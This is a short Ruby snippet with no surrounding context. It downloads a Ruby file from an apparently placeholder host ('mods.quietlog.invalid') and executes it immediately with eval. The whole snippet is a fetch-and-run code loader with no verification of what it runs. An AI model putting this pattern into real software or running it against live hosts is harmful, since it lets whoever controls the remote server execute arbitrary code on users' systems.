require "open-uri"
source = URI.open("https://mods.quietlog.invalid/a.rb").read
eval(source)
